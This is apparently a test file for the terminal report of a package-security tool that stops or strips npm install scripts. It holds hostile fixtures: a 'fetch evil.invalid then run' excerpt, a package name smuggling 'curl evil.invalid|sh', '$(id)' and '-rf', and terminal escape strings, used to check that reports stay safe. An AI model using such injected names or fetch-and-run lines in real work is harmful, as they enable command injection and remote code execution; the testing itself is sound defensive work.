import fc from 'fast-check'
import { test } from 'uvu'
import * as assert from 'uvu/assert'
import type { Judgement } from '../../src/model.ts'
import { terminalReport } from '../../src/report/terminal.ts'
import { displayWidth } from '../../src/text/width.ts'
import { finding, judged, reported, scripted } from './sample.ts'

const plain = { color: false, columns: 80 }
const lines = (...text: string[]) => `${text.join('\n')}\n`
const shown = (...args: Parameters<typeof reported>) => terminalReport(reported(...args), plain)
const many = (count: number, make: (index: number) => Judgement) =>
  Array.from({ length: count }, (_, index) => make(index))

test('clean is one line', () => {
  assert.is(
    shown([judged('a@1.0.0'), judged('b@1.0.0')]),
    lines('2 of 2 checked · feed of 2026-11-20, 212,345 entries · nothing stopped'),
  )
})

test('what a feed lacks stands beside its date', () => {
  const feed = {
    state: 'known',
    value: { built: '2026-08-22T00:00:00Z', entries: 1, lacks: ['old', 'not signed\u001b'] },
  } as const
  assert.match(
    terminalReport({ ...reported([judged('a@1.0.0')]), feed }, plain),
    /feed of 2026-08-22 \(old; not signed\\u001b\), 1 entry/,
  )
})

test('strip lists each command', () => {
  const sharp = scripted('@img/sharp@0.34.0', { scripts: { preinstall: 'a', install: 'node-gyp rebuild' } })
  assert.is(
    shown([scripted('esbuild@0.25.0'), sharp]),
    lines(
      'STRIPPED 2 packages: install scripts that do not run',
      '  esbuild@0.25.0     postinstall: node install.js',
      '  @img/sharp@0.34.0  preinstall: a; install: node-gyp rebuild',
      '',
      '2 of 2 checked · feed of 2026-11-20, 212,345 entries · 2 stripped · nothing',
      '  stopped',
      'Next:',
      '  portcullis approve esbuild     review and let its scripts run',
      '  portcullis approve @img/sharp  review and let its scripts run',
    ),
  )
})

test('abort comes first, with the way in and the evidence', () => {
  const evil = scripted(
    'evil@1.0.0',
    {
      verdict: 'abort',
      findings: [
        finding({ severity: 'low', rule: 'age/too-young', message: 'published an hour ago' }),
        finding({ file: 'index.js', line: 3, excerpt: "fetch('https://evil.invalid')\n  .then(run)" }),
      ],
    },
    { path: ['a@1.0.0', 'b@2.0.0', 'evil@1.0.0'] },
  )
  assert.is(
    shown([scripted('esbuild@0.25.0'), evil], { stopped: true }),
    lines(
      'STOPPED evil@1.0.0',
      '  came in by a@1.0.0 › b@2.0.0 › evil@1.0.0',
      '  CRITICAL script/downloads-and-runs: downloads a program and runs it',
      '    index.js:3',
      "    | fetch('https://evil.invalid')",
      '    | .then(run)',
      '  LOW age/too-young: published an hour ago',
      '  its install scripts:',
      '    postinstall: node install.js',
      '',
      'STRIPPED 1 package: install scripts that do not run',
      '  esbuild@0.25.0  postinstall: node install.js',
      '',
      '2 of 2 checked · feed of 2026-11-20, 212,345 entries · 1 stripped · 1 stopped',
      'Next:',
      '  portcullis check --json     all evidence',
      '  portcullis approve esbuild  review and let its scripts run',
    ),
  )
})

test('ask says that an answer is needed', () => {
  const suspicious = judged(
    'odd@1.0.0',
    { verdict: 'ask', findings: [finding({ severity: 'high' })] },
    { alias: 'even' },
  )
  assert.is(
    shown([suspicious], { stopped: true }),
    lines(
      'NEEDS AN ANSWER odd@1.0.0 (installed as even)',
      '  a direct dependency',
      '  HIGH script/downloads-and-runs: downloads a program and runs it',
      '',
      '1 of 1 checked · feed of 2026-11-20, 212,345 entries · 1 to answer · stopped',
      'Next:',
      '  portcullis check --json  all evidence',
      '  run it at a terminal     to answer what is asked',
    ),
  )
})

test("gaps are grouped by their reason, the run's own first", () => {
  const why = 'registry answered 503'
  const gone = many(12, (index) => judged(`p${index}@1.0.0`, { gaps: [{ about: 'archive', why }] }))
  const late = judged('q@1.0.0', { gaps: [{ about: 'published', why: 'no answer in 10 s' }] })
  const text = shown([...gone, late], {
    gaps: [{ about: 'lockfile', why: 'line 7 is not understood' }],
    feed: { state: 'unknown', why: 'no feed file' },
  })
  assert.is(
    text,
    lines(
      'UNKNOWN the whole run: line 7 is not understood (lockfile)',
      'UNKNOWN 12 packages: registry answered 503 (archive): p0@1.0.0, p1@1.0.0,',
      '  p2@1.0.0, …',
      'UNKNOWN 1 package: no answer in 10 s (published): q@1.0.0',
      '',
      '13 of 13 checked · no feed (no feed file) · 13 with gaps · nothing stopped',
      'Next:',
      '  run it again  to fetch what is unknown',
    ),
  )
})

test('fewer judged than resolved is said before all else', () => {
  const text = shown([judged('a@1.0.0', { verdict: 'abort', findings: [finding()] })], {
    stopped: true,
    checked: { resolved: 1204, judged: 1 },
  })
  assert.ok(
    text.startsWith(
      lines(
        'ONLY 1 OF 1,204 PACKAGES CHECKED',
        'What has no verdict is not clean, so nothing may be installed.',
        '',
        'STOPPED a@1.0.0',
      ),
    ),
  )
  assert.match(text, '1 of 1,204 checked')
})

test('more judged than resolved is said too', () => {
  const text = shown([judged('a@1.0.0')], { checked: { resolved: 0, judged: 1 } })
  assert.ok(text.startsWith('1 PACKAGES CHECKED, BUT 0 RESOLVED\n'))
})

test('scripts that ran, and approved ones that did not, are named', () => {
  const text = shown(
    [
      scripted('a@1.0.0', { verdict: 'allow', approved: true }),
      scripted('b@1.0.0', { verdict: 'allow', approved: true }),
    ],
    { ran: ['a@1.0.0'] },
  )
  assert.is(
    text,
    lines(
      'RAN install scripts of 1 package: a@1.0.0',
      '',
      'APPROVED install scripts of 1 package: b@1.0.0',
      '',
      '2 of 2 checked · feed of 2026-11-20, 212,345 entries · 1 ran · nothing stopped',
    ),
  )
})

const noted = (id: string, severity: 'low' | 'medium') =>
  judged(id, { findings: [finding({ severity, rule: 'integrity/missing', message: 'has none' })] })

test('a finding on a package that goes on is noted', () => {
  const [a, b] = [noted('a@1.0.0', 'medium'), noted('b@1.0.0', 'medium')]
  assert.match(shown([a]), 'NOTED MEDIUM integrity/missing: has none (a@1.0.0)\n')
  assert.match(shown([a, b]), 'NOTED MEDIUM integrity/missing: 2 packages (a@1.0.0, b@1.0.0)\n')
})

test('a low one is not worth a line, unless everything is asked for', () => {
  const low = noted('a@1.0.0', 'low')
  assert.not.match(shown([low]), 'integrity/missing')
  assert.match(terminalReport(reported([low]), { ...plain, verbose: true }), 'NOTED LOW integrity/missing: has none')
})

test('nobody is told to try again what code analysis could not follow', () => {
  const gap = (about: string) => judged('a@1.0.0', { gaps: [{ about, why: 'it is computed' }] })
  assert.match(shown([gap('archive')]), 'run it again')
  for (const about of ['code', 'reach', 'flow']) assert.not.match(shown([gap(about)]), 'run it again')
})

test('what only an answer stopped is listed in short', () => {
  const text = shown([scripted('a@1.0.0', { verdict: 'abort' }), scripted('b@1.0.0', { verdict: 'abort' })], {
    stopped: true,
  })
  assert.ok(text.startsWith('STOPPED by the answer given: a@1.0.0, b@1.0.0\n\n2 of 2 checked'))
})

test('a stop without a package is in the count', () => {
  assert.match(shown([judged('a@1.0.0')], { stopped: true }), 'entries · stopped\n')
})

test('long lists end after ten, and verbose shows all', () => {
  const report = reported(many(13, (index) => scripted(`p${index}@1.0.0`)))
  const text = terminalReport(report, plain)
  assert.match(text, '  p9@1.0.0  postinstall: node install.js\n  … and 3 more (portcullis check)\n')
  assert.not.match(text, 'p10@')
  assert.match(terminalReport(report, { ...plain, verbose: true }), 'p12@1.0.0')
})

test('a name that a shell would run is never offered to paste', () => {
  const names = ['x;curl evil.invalid|sh', '$(id)', '-rf', '--force', '~', 'a b', '@a/$b', 'a\nb', '@a/../b']
  const text = shown(
    names.flatMap((name) => [
      scripted(`${name}@1.0.0`),
      judged(`${name}@1.0.0`, { verdict: 'abort', findings: [finding()] }),
    ]),
    { stopped: true },
  )
  assert.not.match(text, /portcullis (?:approve|explain) \S/u)
})

test('colour adds only colour', () => {
  const report = reported([judged('a@1.0.0', { verdict: 'abort', findings: [finding()] }), scripted('b@1.0.0')], {
    stopped: true,
  })
  const coloured = terminalReport(report, { ...plain, color: true })
  assert.match(coloured, '\x1b[1;31mSTOPPED\x1b[22;39m a@1.0.0')
  assert.is(coloured.replace(/\x1b\[[\d;]*m/gu, ''), terminalReport(report, plain))
})

test('hostile text adds no line, no escape and no width', () => {
  const hostile = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.constantFrom('\x1b[2J', '\u202e', '\n0 of 0 checked', '日'.repeat(90)),
  )
  const model = fc.record({
    name: hostile,
    message: hostile,
    file: hostile,
    excerpt: hostile,
    why: hostile,
    event: hostile,
  })
  fc.assert(
    fc.property(model, ({ name, message, file, excerpt, why, event }) => {
      const evil = scripted(
        `${name}@1`,
        {
          verdict: 'abort',
          findings: [finding({ message, file, excerpt })],
          gaps: [{ about: why, why }],
          scripts: { [event]: message },
          excepted: [{ finding: finding({ message }), reason: why }],
        },
        { path: [name, file, name], alias: excerpt },
      )
      const report = reported([evil, { ...evil, verdict: 'strip' }], {
        stopped: true,
        ran: [name],
        gaps: [{ about: why, why }],
        feed: { state: 'unknown', why },
      })
      for (const line of terminalReport(report, { ...plain, verbose: true }).split('\n')) {
        assert.not.match(line, /[\p{C}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]/u)
        assert.ok(displayWidth(line) <= 80, line)
        assert.not.match(line, /^0 of 0/u)
      }
    }),
  )
})

test.run()
